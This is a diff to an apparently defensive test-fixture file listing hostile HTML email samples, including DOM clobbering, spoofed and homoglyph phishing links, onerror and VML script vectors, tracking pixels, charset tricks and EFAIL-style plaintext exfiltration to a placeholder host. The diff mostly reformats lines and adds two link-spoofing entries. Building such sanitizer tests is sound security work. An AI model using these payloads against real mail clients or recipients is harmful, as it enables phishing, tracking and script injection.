@@ -1,6 +1,6 @@
 /** What takes names away from the page, passes for a part of the product, or holds up whoever draws it; and what mail alone brings. */
 export const pages: Record<string, string> = {
-  "an image that takes a name of the window": '<img name=getElementById src=x><img id=cookie name=cookie src=x>',
+  "an image that takes a name of the window": "<img name=getElementById src=x><img id=cookie name=cookie src=x>",
   "a form that takes names of the document": "<form name=body><input name=parentNode><input id=attributes></form>",
   "a form that takes a name twice": "<form id=x></form><form id=x><input name=y></form>",
   "links that take a name of the window": '<a id=defaultPolicy></a><a id=defaultPolicy name=url href="cid:RUN">x</a>',
@@ -8,16 +8,19 @@ export const pages: Record<string, string> = {
   "an object that takes a name of the window": "<object name=location id=location data=x></object><embed name=self src=x>",
   "an element that takes a name of its kind": "<p id=__proto__ name=__proto__>x</p><p id=constructor>x</p>",
   "a class of the product": '<div class="mail-images composer cx-host"><button class="btn">Show images</button></div>',
-  "a warning of the product": '<a data-host="bank.example" title="bank.example" href="https://evil.example/">bank.example</a> <span class="cx-host">bank.example</span>',
+  "a warning of the product":
+    '<a data-host="bank.example" title="bank.example" href="https://evil.example/">bank.example</a> <span class="cx-host">bank.example</span>',
   "a link whose words are another address": '<a href="https://evil.example/login">https://bank.example/login</a>',
   "a link with a name before its host": '<a href="https://bank.example@evil.example/">https://bank.example</a>',
   "a link whose host has letters that look alike": '<a href="https://b\u0430nk.example/">bank.example</a>',
+  "a link whose host has quotes": `<a href='https://evil"onmouseover=RUN"autofocus"onfocus=RUN".example/'>bank.example</a>`,
+  "a link whose host has entities": '<a href="https://evil&amp;lt;img&amp;gt;.example/">bank.example</a>',
   "a link that is turned around": '<a href="https://evil.example/">\u202eelpmaxe.knab\u202c</a>',
   "a link without a scheme": '<a href="//evil.example/">bank.example</a>',
   "a title that says another place": '<a href="https://evil.example/" title="https://bank.example/">Your account</a>',
-  "words from right to left": '<p dir=rtl>\u202e<bdo dir=rtl>nigol</bdo>\u2066\u2069</p>',
+  "words from right to left": "<p dir=rtl>\u202e<bdo dir=rtl>nigol</bdo>\u2066\u2069</p>",
   "a field of the product": '<input type=password placeholder="Your password" name=password><select><option>x</option></select>',
-  "words that can be changed": '<div contenteditable spellcheck writingsuggestions virtualkeyboardpolicy=manual>x</div>',
+  "words that can be changed": "<div contenteditable spellcheck writingsuggestions virtualkeyboardpolicy=manual>x</div>",
   "words that nobody reaches": "<div inert hidden=until-found aria-hidden=true role=alert tabindex=-1>x</div>",
   "a slot and a part": '<slot name=x></slot><p slot=x part=y exportparts=y itemscope itemtype="AWAY">x</p>',
   "an element of permission": "<permission type=camera onpromptaction=RUN></permission><geolocation autolocate></geolocation>",
@@ -30,17 +33,21 @@ export const pages: Record<string, string> = {
   "an image of Outlook": '<v:image src="AWAY" style="width:9px" onerror=RUN /><v:shape><v:imagedata src="AWAY" o:title=x /></v:shape>',
   "a background of Outlook": '<v:background fill=t><v:fill type=tile src="AWAY" color=red /></v:background>',
   "a link of Outlook": '<v:rect href="javascript:RUN" fillcolor=red><w:anchorlock/><center>x</center></v:rect>',
-  "an island of Office": "<xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings><x:ExcelWorkbook><img src=x onerror=RUN></x:ExcelWorkbook></xml>",
+  "an island of Office":
+    "<xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings><x:ExcelWorkbook><img src=x onerror=RUN></x:ExcelWorkbook></xml>",
   "an element of Office": "<o:p onclick=RUN>x</o:p><st1:place w:st=on onmouseover=RUN>x</st1:place>",
-  "a mail that is a program": '<html amp4email><script async src="https://cdn.ampproject.org/v0.js"></script><amp-img src="AWAY" width=9 height=9 on="tap:RUN"></amp-img><amp-form action-xhr="AWAY"></amp-form></html>',
+  "a mail that is a program":
+    '<html amp4email><script async src="https://cdn.ampproject.org/v0.js"></script><amp-img src="AWAY" width=9 height=9 on="tap:RUN"></amp-img><amp-form action-xhr="AWAY"></amp-form></html>',
   "a part of AMP that renews itself": '<amp-list src="AWAY" width=9 height=9><template type=amp-mustache>{{{html}}}</template></amp-list>',
   "a picture of the mail with a way out": '<img src="cid:x&quot; onerror=&quot;RUN"><img src="cid:&quot;><script>RUN</script>">',
   "a picture of the mail that is a path": '<img src="cid:../../api/v1/members/me"><img src="cid:%2e%2e/%00">',
   "a picture of the mail in a style": '<p style="background:url(cid:logo)">x</p>',
   "a place within the mail": '<a href="mid:x@y/z">x</a><a href="cid:x">x</a><img src="mid:x">',
-  "a mark of who looks, in a style": '<div style="background-image:url(\'AWAY\');width:1px;height:1px;max-height:0;overflow:hidden">&nbsp;</div>',
+  "a mark of who looks, in a style":
+    "<div style=\"background-image:url('AWAY');width:1px;height:1px;max-height:0;overflow:hidden\">&nbsp;</div>",
   "a mark of who looks, in a rule": '<hr style="border:0;height:1px;background:url(AWAY)"><font style="background:url(AWAY)">x</font>',
-  "a mark of who looks, when a link is under the pointer": "<style>a:hover{background:url(AWAY)}</style><a href='https://shop.example/'>x</a>",
+  "a mark of who looks, when a link is under the pointer":
+    "<style>a:hover{background:url(AWAY)}</style><a href='https://shop.example/'>x</a>",
   "a mark of who looks, in a link's list": '<link rel="stylesheet" media="only screen and (-webkit-min-device-pixel-ratio:1)" href="AWAY">',
   "a plaintext of an encrypted mail, sent away": '<img src="AWAY?',
   "an encrypted mail within a form": '<form action="AWAY" method=post><textarea name=plain>',
@@ -48,9 +55,12 @@ export const pages: Record<string, string> = {
   "a head in the words": "<p>x</p><head><meta http-equiv=refresh content='0;url=AWAY'><style>@import 'AWAY';</style></head>",
   "a type of document": '<!DOCTYPE html [<!ENTITY x SYSTEM "AWAY">]><p>&x;</p>',
   "bytes of another alphabet": '<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-',
-  "a charset that is declared late": '<meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp"><p title="\u001b$B">\u001b(B<img src=x onerror=RUN>',
+  "a charset that is declared late":
+    '<meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp"><p title="\u001b$B">\u001b(B<img src=x onerror=RUN>',
   "letters written in too many bytes": "\u00c0\u00bcscript\u00c0\u00beRUN\u00c0\u00bc/script\u00c0\u00be",
   "letters of the half-width kind": "\uff1cscript\uff1eRUN\uff1c/script\uff1e\uff1cimg src=x onerror=RUN\uff1e",
-  "an actionable message": '<script type="application/adaptivecard+json">{"type":"AdaptiveCard","autoInvokeAction":{"method":"POST","url":"AWAY"}}</script>',
-  "a fact for a search engine": '<script type="application/ld+json">{"@type":"EmailMessage","potentialAction":{"target":"AWAY"}}</script><div itemscope itemtype="http://schema.org/EmailMessage"><link itemprop=url href="AWAY"></div>',
+  "an actionable message":
+    '<script type="application/adaptivecard+json">{"type":"AdaptiveCard","autoInvokeAction":{"method":"POST","url":"AWAY"}}</script>',
+  "a fact for a search engine":
+    '<script type="application/ld+json">{"@type":"EmailMessage","potentialAction":{"target":"AWAY"}}</script><div itemscope itemtype="http://schema.org/EmailMessage"><link itemprop=url href="AWAY"></div>',
 };
